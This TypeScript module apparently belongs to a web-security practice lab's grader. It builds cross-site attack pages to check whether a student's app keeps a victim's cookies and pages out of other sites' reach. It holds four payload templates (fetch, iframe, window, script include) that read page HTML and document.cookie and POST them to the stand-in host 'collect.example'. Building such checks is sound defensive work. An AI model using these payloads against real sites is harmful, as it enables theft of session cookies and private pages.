import type { LabLogEntry } from '@drawbridge/contracts/practice';
import { listVictims } from '../../../engine/browser/people.ts';
import type { CheatSubmission, GeneralCheat } from '../cheat.ts';
import type { AttackMaterial } from './material.ts';
import { listPages } from './pages.ts';

const send = (text: string) =>
  `fetch('https://collect.example/', { method: 'POST', mode: 'no-cors', body: ${text} })`;

/** What a page of another site tries first; a browser allows none of it. */
const WAYS: Readonly<Record<string, (address: string) => string>> = {
  fetch: (address) =>
    `<script>fetch('${address}', { credentials: 'include' }).then((reply) => reply.text()).then((text) => ${send('text')});</script>`,
  frame: (address) =>
    `<iframe src="${address}"></iframe><script>const [frame] = document.getElementsByTagName('iframe'); frame.onload = () => ${send('frame.contentDocument.documentElement.outerHTML')};</script>`,
  window: (address) =>
    `<script>const opened = open('${address}'); setTimeout(() => ${send('opened.document.documentElement.outerHTML')}, 100);</script>`,
  script: (address) =>
    `<script src="${address}"></script><script>${send('document.documentElement.outerHTML + document.cookie')};</script>`,
};

/** A victim is a person with a browser, which keeps sites apart. */
export const foreignPages: GeneralCheat<AttackMaterial> = {
  id: 'foreign-pages',
  what: 'sends the victim to a page that reads the app from another site',
  improve:
    "the victim's cookies and pages must be out of reach of other sites: look at the headers the app sends",
  submissions(material) {
    if (material.pack.goal?.by === 'script') return [];
    return listVictims(material.pack).flatMap(({ user: victim }) =>
      Object.entries(WAYS).map(
        ([name, toHtml]): CheatSubmission => ({
          name: `${name}, as ${victim}`,
          files: [],
          log: listPages(material).map(
            (url): LabLogEntry => ({ victim, html: toHtml(`https://app.test${url}`) }),
          ),
        }),
      ),
    );
  },
};
